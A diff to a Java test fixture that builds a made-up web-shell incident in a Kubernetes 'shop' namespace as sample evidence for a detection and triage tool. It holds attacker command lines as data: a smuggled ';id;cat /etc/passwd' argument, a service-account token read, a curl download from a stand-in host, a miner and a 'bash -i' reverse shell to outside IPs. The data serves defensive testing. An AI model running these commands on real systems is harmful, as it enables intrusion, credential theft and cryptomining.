@@ -33,7 +33,6 @@ import salvor.evidence.Quality;
 import salvor.evidence.RawRecords;
 import salvor.evidence.RecordRef;
 import salvor.evidence.Source;
-import salvor.jobs.Jobs;
 import salvor.jobs.Progress;
 import salvor.triage.Finding;
 import salvor.triage.MissingEvidence;
@@ -42,7 +41,9 @@ import salvor.workload.Inventory;
 import salvor.workload.Location;
 import salvor.workload.WorkloadRef;
 
-/** A made-up incident: quiet life on six pods, and a web shell that somebody uses for two minutes. */
+/**
+ * A made-up incident: quiet life on six pods, and a web shell that somebody uses for two minutes.
+ */
 final class SampleCase {
   static final long BEGIN = Instant.parse("2026-11-23T04:00:00Z").getEpochSecond() * 1_000_000_000L;
   static final long SECOND = 1_000_000_000L;
@@ -54,100 +55,389 @@ final class SampleCase {
   private final Map<RecordRef, Integer> story = new HashMap<>();
   private long line;
 
-  private static Location at(String namespace, String workload, String pod, String container, int node) {
-    return new Location("node" + node, namespace, pod, null, container, null, "registry.corp.example/" + workload + ":1.4.2", null,
+  private static Location at(
+      String namespace, String workload, String pod, String container, int node) {
+    return new Location(
+        "node" + node,
+        namespace,
+        pod,
+        null,
+        container,
+        null,
+        "registry.corp.example/" + workload + ":1.4.2",
+        null,
         new WorkloadRef(namespace, "Deployment", workload));
   }
 
   private static ProcessInfo process(int pid, String executable, String command, String parent) {
-    return new ProcessInfo(pid, pid % 1000, null, executable, executable.substring(executable.lastIndexOf('/') + 1), command.replace(' ', '\0'), "/srv", 33,
+    return new ProcessInfo(
+        pid,
+        pid % 1000,
+        null,
+        executable,
+        executable.substring(executable.lastIndexOf('/') + 1),
+        command.replace(' ', '\0'),
+        "/srv",
+        33,
         new ProcessInfo.Parent(pid - 1, null, parent, null, null));
   }
 
-  private RecordRef add(@Nullable Long time, Location location, ProcessInfo process, Activity activity, Judgement judgement, Quality... quality) {
+  private RecordRef add(
+      @Nullable Long time,
+      Location location,
+      ProcessInfo process,
+      Activity activity,
+      Judgement judgement,
+      Quality... quality) {
     RecordRef ref = new RecordRef(0, ++line, line * 100, 100);
-    ObservedTime when = time == null ? null : new ObservedTime(time, Instant.ofEpochSecond(0, time).toString());
+    ObservedTime when =
+        time == null ? null : new ObservedTime(time, Instant.ofEpochSecond(0, time).toString());
     all.add(new Observation(when, location, process, activity, Set.of(quality), ref));
     judged.put(ref, judgement);
     return ref;
   }
 
   private static Judgement in(String element) {
-    return new Judgement(Reason.MATCHED, Severity.INFO, List.of(), "shop/web (learned)", element, "4 of 4", List.of(), List.of(), null);
+    return new Judgement(
+        Reason.MATCHED,
+        Severity.INFO,
+        List.of(),
+        "shop/web (learned)",
+        element,
+        "4 of 4",
+        List.of(),
+        List.of(),
+        null);
   }
 
-  private static Judgement out(Reason reason, Severity severity, List<Judgement.Modifier> modifiers, @Nullable String nearest, Judgement.Difference... differences) {
-    return new Judgement(reason, severity, modifiers, "shop/web (learned)", nearest, nearest == null ? null : "3 of 4", List.of(differences), List.of(), null);
+  private static Judgement out(
+      Reason reason,
+      Severity severity,
+      List<Judgement.Modifier> modifiers,
+      @Nullable String nearest,
+      Judgement.Difference... differences) {
+    return new Judgement(
+        reason,
+        severity,
+        modifiers,
+        "shop/web (learned)",
+        nearest,
+        nearest == null ? null : "3 of 4",
+        List.of(differences),
+        List.of(),
+        null);
   }
 
   private void life(Location pod, int seconds) {
-    ProcessInfo nginx = process(1200, "/usr/sbin/nginx", "nginx: worker process", "/usr/sbin/nginx");
-    ProcessInfo export = process(2400, "/bin/sh", "sh -c /srv/export.sh fmt=csv", "/usr/bin/python3.12");
-    ProcessInfo probe = process(2500, "/usr/bin/cat", "cat /tmp/healthy", "/usr/bin/containerd-shim-runc-v2");
-    for (long t = 0; t < seconds * SECOND; t += (long) (SECOND * (0.2 + random.nextDouble() * 1.6))) {
+    ProcessInfo nginx =
+        process(1200, "/usr/sbin/nginx", "nginx: worker process", "/usr/sbin/nginx");
+    ProcessInfo export =
+        process(2400, "/bin/sh", "sh -c /srv/export.sh fmt=csv", "/usr/bin/python3.12");
+    ProcessInfo probe =
+        process(2500, "/usr/bin/cat", "cat /tmp/healthy", "/usr/bin/containerd-shim-runc-v2");
+    for (long t = 0;
+        t < seconds * SECOND;
+        t += (long) (SECOND * (0.2 + random.nextDouble() * 1.6))) {
       long time = BEGIN + t;
       switch (random.nextInt(10)) {
-        case 0, 1, 2, 3 -> add(time, pod, nginx, new Activity.ConnectionAccepted(new Endpoint("10.244.0.12", 8080, null), new Endpoint("10.244.1.9", 40000 + random.nextInt(20000), null), "tcp"), in("accept :8080 from pods"));
-        case 4, 5 -> add(time, pod, export, new Activity.ProcessStarted(), in("sh -c <path> <word>"));
-        case 6, 7 -> add(time, pod, nginx, new Activity.FileOpened("/srv/static/app-" + random.nextInt(30) + ".css", "O_RDONLY"), in("/srv/static/*"));
-        case 8 -> add(time, pod, export, new Activity.ConnectionOpened(new Endpoint("10.244.0.12", 51002, null), new Endpoint("198.51.100.10", 5432, "db.corp.example"), "tcp"), in("db.corp.example:5432"));
-        default -> add(time, pod, probe, new Activity.ProcessStarted(), Judgement.of(Reason.PROBE), Quality.NOT_IN_INIT_TREE);
+        case 0, 1, 2, 3 ->
+            add(
+                time,
+                pod,
+                nginx,
+                new Activity.ConnectionAccepted(
+                    new Endpoint("10.244.0.12", 8080, null),
+                    new Endpoint("10.244.1.9", 40000 + random.nextInt(20000), null),
+                    "tcp"),
+                in("accept :8080 from pods"));
+        case 4, 5 ->
+            add(time, pod, export, new Activity.ProcessStarted(), in("sh -c <path> <word>"));
+        case 6, 7 ->
+            add(
+                time,
+                pod,
+                nginx,
+                new Activity.FileOpened(
+                    "/srv/static/app-" + random.nextInt(30) + ".css", "O_RDONLY"),
+                in("/srv/static/*"));
+        case 8 ->
+            add(
+                time,
+                pod,
+                export,
+                new Activity.ConnectionOpened(
+                    new Endpoint("10.244.0.12", 51002, null),
+                    new Endpoint("198.51.100.10", 5432, "db.corp.example"),
+                    "tcp"),
+                in("db.corp.example:5432"));
+        default ->
+            add(
+                time,
+                pod,
+                probe,
+                new Activity.ProcessStarted(),
+                Judgement.of(Reason.PROBE),
+                Quality.NOT_IN_INIT_TREE);
       }
     }
   }
 
   private static final List<Judgement.Modifier> SHELL = List.of(Judgement.Modifier.SHELL_ANCESTOR);
 
-  private void step(int number, double after, Location pod, ProcessInfo process, Activity activity, Judgement judgement, Quality... quality) {
-    story.put(add(ATTACK + (long) (after * SECOND), pod, process, activity, judgement, quality), number);
+  private void step(
+      int number,
+      double after,
+      Location pod,
+      ProcessInfo process,
+      Activity activity,
+      Judgement judgement,
+      Quality... quality) {
+    story.put(
+        add(ATTACK + (long) (after * SECOND), pod, process, activity, judgement, quality), number);
   }
 
   private void attack(Location web) {
-    ProcessInfo shell = process(7001, "/bin/sh", "sh -c /srv/export.sh fmt=csv;id;cat /etc/passwd", "/usr/bin/python3.12");
-    step(0, 0, web, shell, new Activity.ProcessStarted(),
-        out(Reason.NEW_ARG_SHAPE, Severity.HIGH, List.of(Judgement.Modifier.SAME_LINEAGE_AS_EARLIER_OUT), "sh -c <path> <word>",
-            new Judgement.Difference("arguments", "sh -c <path> <word>", "sh -c <path> <word> ; <word> ; cat <path>")));
-    step(0, 0.02, web, process(7002, "/usr/bin/id", "id", "/bin/sh"), new Activity.ProcessStarted(), out(Reason.NEW_BINARY_IN_IMAGE, Severity.HIGH, SHELL, null));
-    step(0, 9.1, web, process(7011, "/usr/bin/cat", "cat /var/run/secrets/kubernetes.io/serviceaccount/token", "/bin/sh"),
+    ProcessInfo shell =
+        process(
+            7001,
+            "/bin/sh",
+            "sh -c /srv/export.sh fmt=csv;id;cat /etc/passwd",
+            "/usr/bin/python3.12");
+    step(
+        0,
+        0,
+        web,
+        shell,
+        new Activity.ProcessStarted(),
+        out(
+            Reason.NEW_ARG_SHAPE,
+            Severity.HIGH,
+            List.of(Judgement.Modifier.SAME_LINEAGE_AS_EARLIER_OUT),
+            "sh -c <path> <word>",
+            new Judgement.Difference(
+                "arguments", "sh -c <path> <word>", "sh -c <path> <word> ; <word> ; cat <path>")));
+    step(
+        0,
+        0.02,
+        web,
+        process(7002, "/usr/bin/id", "id", "/bin/sh"),
+        new Activity.ProcessStarted(),
+        out(Reason.NEW_BINARY_IN_IMAGE, Severity.HIGH, SHELL, null));
+    step(
+        0,
+        9.1,
+        web,
+        process(
+            7011,
+            "/usr/bin/cat",
+            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+            "/bin/sh"),
         new Activity.FileOpened("/var/run/secrets/kubernetes.io/serviceaccount/token", "O_RDONLY"),
-        out(Reason.TOKEN_READ_BY_TOOL, Severity.CRITICAL, List.of(Judgement.Modifier.SENSITIVE_FILE), null));
-    step(1, 31, web, process(7040, "/usr/bin/curl", "curl -so /tmp/.x http://cdn-static.example/kworker", "/bin/sh"), new Activity.ConnectionOpened(new Endpoint("10.244.0.12", 40112, null), new Endpoint("203.0.113.66", 80, "cdn-static.example"), "tcp"),
-        out(Reason.NEW_PEER, Severity.CRITICAL, List.of(Judgement.Modifier.PUBLIC_PEER, Judgement.Modifier.SHELL_ANCESTOR), "db.corp.example:5432",
-            new Judgement.Difference("peer", "db.corp.example", "203.0.113.66"), new Judgement.Difference("port", "5432", "80")));
-    step(1, 31.6, web, process(7040, "/usr/bin/curl", "curl -so /tmp/.x http://cdn-static.example/kworker", "/bin/sh"), new Activity.FileWritten("/tmp/.x", "O_WRONLY|O_CREAT"), out(Reason.NEW_FILE_WRITE, Severity.MEDIUM, SHELL, null));
-    step(1, 33, web, process(7044, "/tmp/.x", "/tmp/.x --donate-level 1 -o 203.0.113.77:3333", "/bin/sh"), new Activity.ProcessStarted(), out(Reason.NEW_BINARY_NOT_IN_IMAGE, Severity.CRITICAL, SHELL, null), Quality.EXE_UPPER_LAYER);
+        out(
+            Reason.TOKEN_READ_BY_TOOL,
+            Severity.CRITICAL,
+            List.of(Judgement.Modifier.SENSITIVE_FILE),
+            null));
+    step(
+        1,
+        31,
+        web,
+        process(
+            7040, "/usr/bin/curl", "curl -so /tmp/.x http://cdn-static.example/kworker", "/bin/sh"),
+        new Activity.ConnectionOpened(
+            new Endpoint("10.244.0.12", 40112, null),
+            new Endpoint("203.0.113.66", 80, "cdn-static.example"),
+            "tcp"),
+        out(
+            Reason.NEW_PEER,
+            Severity.CRITICAL,
+            List.of(Judgement.Modifier.PUBLIC_PEER, Judgement.Modifier.SHELL_ANCESTOR),
+            "db.corp.example:5432",
+            new Judgement.Difference("peer", "db.corp.example", "203.0.113.66"),
+            new Judgement.Difference("port", "5432", "80")));
+    step(
+        1,
+        31.6,
+        web,
+        process(
+            7040, "/usr/bin/curl", "curl -so /tmp/.x http://cdn-static.example/kworker", "/bin/sh"),
+        new Activity.FileWritten("/tmp/.x", "O_WRONLY|O_CREAT"),
+        out(Reason.NEW_FILE_WRITE, Severity.MEDIUM, SHELL, null));
+    step(
+        1,
+        33,
+        web,
+        process(7044, "/tmp/.x", "/tmp/.x --donate-level 1 -o 203.0.113.77:3333", "/bin/sh"),
+        new Activity.ProcessStarted(),
+        out(Reason.NEW_BINARY_NOT_IN_IMAGE, Severity.CRITICAL, SHELL, null),
+        Quality.EXE_UPPER_LAYER);
     for (int i = 0; i < 40; i++) {
-      step(1, 33.2 + i * 2.3, web, process(7044, "/tmp/.x", "/tmp/.x --donate-level 1 -o 203.0.113.77:3333", "/bin/sh"), new Activity.ConnectionOpened(new Endpoint("10.244.0.12", 41000 + i, null), new Endpoint("203.0.113.77", 3333, null), "tcp"), out(Reason.MINER_PORT, Severity.CRITICAL, List.of(Judgement.Modifier.PUBLIC_PEER), null));
+      step(
+          1,
+          33.2 + i * 2.3,
+          web,
+          process(7044, "/tmp/.x", "/tmp/.x --donate-level 1 -o 203.0.113.77:3333", "/bin/sh"),
+          new Activity.ConnectionOpened(
+              new Endpoint("10.244.0.12", 41000 + i, null),
+              new Endpoint("203.0.113.77", 3333, null),
+              "tcp"),
+          out(Reason.MINER_PORT, Severity.CRITICAL, List.of(Judgement.Modifier.PUBLIC_PEER), null));
     }
-    step(2, 64, web, process(7080, "/bin/bash", "bash -i", "/bin/sh"), new Activity.ConnectionOpened(new Endpoint("10.244.0.12", 40190, null), new Endpoint("203.0.113.66", 4444, null), "tcp"), out(Reason.SHELL_ON_NETWORK, Severity.CRITICAL, List.of(Judgement.Modifier.PUBLIC_PEER), null), Quality.TTY);
-    step(2, 80, web, process(7091, "memfd:7", "7 \u001b[31m-q\u202e", "/bin/bash"), new Activity.ProcessStarted(), out(Reason.EXECUTED_FROM_MEMORY, Severity.CRITICAL, SHELL, null), Quality.EXE_FROM_MEMFD);
+    step(
+        2,
+        64,
+        web,
+        process(7080, "/bin/bash", "bash -i", "/bin/sh"),
+        new Activity.ConnectionOpened(
+            new Endpoint("10.244.0.12", 40190, null),
+            new Endpoint("203.0.113.66", 4444, null),
+            "tcp"),
+        out(
+            Reason.SHELL_ON_NETWORK,
+            Severity.CRITICAL,
+            List.of(Judgement.Modifier.PUBLIC_PEER),
+            null),
+        Quality.TTY);
+    step(
+        2,
+        80,
+        web,
+        process(7091, "memfd:7", "7 \u001b[31m-q\u202e", "/bin/bash"),
+        new Activity.ProcessStarted(),
+        out(Reason.EXECUTED_FROM_MEMORY, Severity.CRITICAL, SHELL, null),
+        Quality.EXE_FROM_MEMFD);
   }
 
   private void rest(Location web, Location pay) {
     Location api = new Location("node1", null, null, null, null, null, null, null, null);
     for (int i = 0; i < 60; i++) {
-      add(BEGIN + i * 8 * SECOND, api, ProcessInfo.UNKNOWN, new Activity.ApiRequest(i % 3 == 0 ? "list" : "get", "pods", null, "shop", null, "system:serviceaccount:kube-system:deployment-controller", null, null, "10.0.0.1", "kube-controller-manager/v1.36.2", 200, null), Judgement.of(Reason.NOT_JUDGED));
+      add(
+          BEGIN + i * 8 * SECOND,
+          api,
+          ProcessInfo.UNKNOWN,
+          new Activity.ApiRequest(
+              i % 3 == 0 ? "list" : "get",
+              "pods",
+              null,
+              "shop",
+              null,
+              "system:serviceaccount:kube-system:deployment-controller",
+              null,
+              null,
+              "10.0.0.1",
+              "kube-controller-manager/v1.36.2",
+              200,
+              null),
+          Judgement.of(Reason.NOT_JUDGED));
     }
-    step(0, 12, api, ProcessInfo.UNKNOWN, new Activity.ApiRequest("list", "secrets", null, "shop", null, "system:serviceaccount:shop:web", null, "shop/web-6d4f9c7b8d-x2k9p", "203.0.113.66", "curl/8.5.0", 200, "/api/v1/namespaces/shop/secrets"), out(Reason.TOKEN_USED_ELSEWHERE, Severity.CRITICAL, List.of(), null));
-    RecordRef exec = add(ATTACK + 150 * SECOND, api, ProcessInfo.UNKNOWN, new Activity.ApiRequest("create", "pods", "exec", "shop", "web-6d4f9c7b8d-x2k9p", "alice", null, null, "192.168.77.1", "kubectl/v1.36.2", 101, null), Judgement.of(Reason.NOT_JUDGED));
-    add(ATTACK + 150 * SECOND + 20_000_000, web, process(7200, "/usr/bin/ss", "ss -tanp", "/usr/bin/runc"), new Activity.ProcessStarted(),
-        new Judgement(Reason.OPERATOR_EXEC, Severity.INFO, List.of(), "shop/web (learned)", null, null, List.of(), List.of(), exec), Quality.NOT_IN_INIT_TREE);
-    add(BEGIN + 300 * SECOND, pay, ProcessInfo.UNKNOWN, new Activity.EventsLost(1200, "ring buffer full"), Judgement.of(Reason.NOT_JUDGED));
-    add(null, web, ProcessInfo.UNKNOWN, new Activity.FileOpened("/etc/hosts", null), Judgement.of(Reason.NOT_ENOUGH_DETAIL));
+    step(
+        0,
+        12,
+        api,
+        ProcessInfo.UNKNOWN,
+        new Activity.ApiRequest(
+            "list",
+            "secrets",
+            null,
+            "shop",
+            null,
+            "system:serviceaccount:shop:web",
+            null,
+            "shop/web-6d4f9c7b8d-x2k9p",
+            "203.0.113.66",
+            "curl/8.5.0",
+            200,
+            "/api/v1/namespaces/shop/secrets"),
+        out(Reason.TOKEN_USED_ELSEWHERE, Severity.CRITICAL, List.of(), null));
+    RecordRef exec =
+        add(
+            ATTACK + 150 * SECOND,
+            api,
+            ProcessInfo.UNKNOWN,
+            new Activity.ApiRequest(
+                "create",
+                "pods",
+                "exec",
+                "shop",
+                "web-6d4f9c7b8d-x2k9p",
+                "alice",
+                null,
+                null,
+                "192.168.77.1",
+                "kubectl/v1.36.2",
+                101,
+                null),
+            Judgement.of(Reason.NOT_JUDGED));
+    add(
+        ATTACK + 150 * SECOND + 20_000_000,
+        web,
+        process(7200, "/usr/bin/ss", "ss -tanp", "/usr/bin/runc"),
+        new Activity.ProcessStarted(),
+        new Judgement(
+            Reason.OPERATOR_EXEC,
+            Severity.INFO,
+            List.of(),
+            "shop/web (learned)",
+            null,
+            null,
+            List.of(),
+            List.of(),
+            exec),
+        Quality.NOT_IN_INIT_TREE);
+    add(
+        BEGIN + 300 * SECOND,
+        pay,
+        ProcessInfo.UNKNOWN,
+        new Activity.EventsLost(1200, "ring buffer full"),
+        Judgement.of(Reason.NOT_JUDGED));
+    add(
+        null,
+        web,
+        ProcessInfo.UNKNOWN,
+        new Activity.FileOpened("/etc/hosts", null),
+        Judgement.of(Reason.NOT_ENOUGH_DETAIL));
   }
 
   private Evidence evidence() {
     Location web = at("shop", "web", "web-6d4f9c7b8d-x2k9p", "web", 1);
     Location pay = at("shop", "pay", "pay-57c9d6fd94-k8wzt", "pay", 1);
-    List<Location> pods = List.of(web, at("shop", "web", "web-6d4f9c7b8d-7qvnm", "web", 2), pay, at("shop", "pay", "pay-57c9d6fd94-r5xhj", "pay", 2),
-        at("shop", "cache", "cache-0", "cache", 2), at("shop", "logship", "logship-a-very-long-name-that-nobody-ever-shortened-4fj2n", "ship", 1));
+    List<Location> pods =
+        List.of(
+            web,
+            at("shop", "web", "web-6d4f9c7b8d-7qvnm", "web", 2),
+            pay,
+            at("shop", "pay", "pay-57c9d6fd94-r5xhj", "pay", 2),
+            at("shop", "cache", "cache-0", "cache", 2),
+            at(
+                "shop",
+                "logship",
+                "logship-a-very-long-name-that-nobody-ever-shortened-4fj2n",
+                "ship",
+                1));
     pods.forEach(p -> life(p, 620));
     for (int i = 0; i < 50; i++) {
-      add(BEGIN + i * 11 * SECOND, at("staging", "web-bare", "web-bare", "web", 2), process(90, "/usr/sbin/nginx", "nginx", "/sbin/init"), new Activity.ProcessStarted(), Judgement.of(Reason.NO_BASELINE));
+      add(
+          BEGIN + i * 11 * SECOND,
+          at("staging", "web-bare", "web-bare", "web", 2),
+          process(90, "/usr/sbin/nginx", "nginx", "/sbin/init"),
+          new Activity.ProcessStarted(),
+          Judgement.of(Reason.NO_BASELINE));
     }
     attack(web);
     rest(web, pay);
-    Source source = new Source(0, "evidence-samples/webshell/host/falco.jsonl.gz", "0".repeat(64), "falco", 1000, line, line, 0, List.of(), new TreeMap<>(), List.of());
+    Source source =
+        new Source(
+            0,
+            "evidence-samples/webshell/host/falco.jsonl.gz",
+            "0".repeat(64),
+            "falco",
+            1000,
+            line,
+            line,
+            0,
+            List.of(),
+            new TreeMap<>(),
+            List.of());
     return new Evidence(List.of(source), Observations.of(all), Inventory.EMPTY);
   }
 
@@ -157,7 +447,14 @@ final class SampleCase {
     IntBuffer perRow = IntBuffer.allocate(observations.size());
     for (int row = 0; row < observations.size(); row++) {
       Judgement judgement = judged.get(observations.source(row));
-      perRow.put(row, known.computeIfAbsent(judgement, j -> { distinct.add(j); return distinct.size() - 1; }));
+      perRow.put(
+          row,
+          known.computeIfAbsent(
+              judgement,
+              j -> {
+                distinct.add(j);
+                return distinct.size() - 1;
+              }));
     }
     return new Verdicts(perRow, distinct);
   }
@@ -174,11 +471,29 @@ final class SampleCase {
   }
 
   private static Finding finding(Observations observations, Verdicts verdicts, List<Integer> rows) {
-    int worst = rows.stream().max((a, b) -> verdicts.judgement(a).severity().compareTo(verdicts.judgement(b).severity())).orElseThrow();
+    int worst =
+        rows.stream()
+            .max((a, b) ->
+                verdicts.judgement(a).severity().compareTo(verdicts.judgement(b).severity()))
+            .orElseThrow();
     Observation o = observations.get(worst);
     IntBuffer numbers = IntBuffer.wrap(rows.stream().mapToInt(Integer::intValue).toArray());
-    return new Finding(observations.time(rows.getFirst()), observations.time(rows.getLast()), worst, verdicts.judgement(worst), verdicts.judgement(worst), o.location(), o.location().workload(),
-        o.process().program(), o.process().commandLine(), null, numbers, Map.of(verdicts.judgement(worst).reason(), rows.size()), List.of(NextStep.FOLLOW_THE_PROCESS_TREE, NextStep.CHECK_THE_SAME_DIGEST), Set.of(MissingEvidence.DNS), IntBuffer.allocate(0));
+    return new Finding(
+        observations.time(rows.getFirst()),
+        observations.time(rows.getLast()),
+        worst,
+        verdicts.judgement(worst),
+        verdicts.judgement(worst),
+        o.location(),
+        o.location().workload(),
+        o.process().program(),
+        o.process().commandLine(),
+        null,
+        numbers,
+        Map.of(verdicts.judgement(worst).reason(), rows.size()),
+        List.of(NextStep.FOLLOW_THE_PROCESS_TREE, NextStep.CHECK_THE_SAME_DIGEST),
+        Set.of(MissingEvidence.DNS),
+        IntBuffer.allocate(0));
   }
 
   /** The case, opened. */
@@ -186,19 +501,33 @@ final class SampleCase {
     SampleCase sample = new SampleCase();
     Evidence evidence = sample.evidence();
     Verdicts verdicts = sample.verdicts(evidence.observations());
-    return of("Web shell in shop", evidence, verdicts, sample.findings(evidence.observations(), verdicts), SampleCase::record);
+    return of(
+        "Web shell in shop",
+        evidence,
+        verdicts,
+        sample.findings(evidence.observations(), verdicts),
+        SampleCase::record);
   }
 
   private static byte[] record(RecordRef ref) {
-    return ("{\"hostname\":\"node1\",\"output\":\"04:06:05.001: Process start \\u001b[31m\",\"priority\":\"Notice\",\"rule\":\"telemetry: process\",\"time\":\"2026-11-23T04:06:05.001234567Z\",\"output_fields\":{\"container.id\":\"8e1f0c2b7a55\",\"evt.num\":" + ref.line() + ",\"proc.cmdline\":\"sh -c /srv/export.sh fmt=csv;id\",\"proc.exepath\":\"/bin/sh\",\"proc.pid\":7001,\"tags\":[\"container\",\"process\"],\"none\":{}}}")
+    return ("{\"hostname\":\"node1\",\"output\":\"04:06:05.001: Process start \\u001b[31m\",\"priority\":\"Notice\",\"rule\":\"telemetry: process\",\"time\":\"2026-11-23T04:06:05.001234567Z\",\"output_fields\":{\"container.id\":\"8e1f0c2b7a55\",\"evt.num\":"
+            + ref.line()
+            + ",\"proc.cmdline\":\"sh -c /srv/export.sh fmt=csv;id\",\"proc.exepath\":\"/bin/sh\",\"proc.pid\":7001,\"tags\":[\"container\",\"process\"],\"none\":{}}}")
         .getBytes(StandardCharsets.UTF_8);
   }
 
-  static Investigation of(String name, Evidence evidence, Verdicts verdicts, List<Finding> findings, RawRecords records) {
-    Cases cases = new Cases((_, _) -> new Given(evidence, List.of()), (_, _) -> verdicts, Clock.systemUTC());
+  static Investigation of(
+      String name,
+      Evidence evidence,
+      Verdicts verdicts,
+      List<Finding> findings,
+      RawRecords records) {
+    Cases cases =
+        new Cases((_, _) -> new Given(evidence, List.of()), (_, _) -> verdicts, Clock.systemUTC());
     try {
       OpenedCase opened = cases.open(Opening.inMemory(List.of(), List.of()), Progress.NONE);
-      return new Investigation(name, opened, new Judge(List.of(), Inventory.EMPTY).matching(), findings, records);
+      return new Investigation(
+          name, opened, new Judge(List.of(), Inventory.EMPTY).matching(), findings, records);
     } catch (Exception e) {
       throw new AssertionError(e);
     }
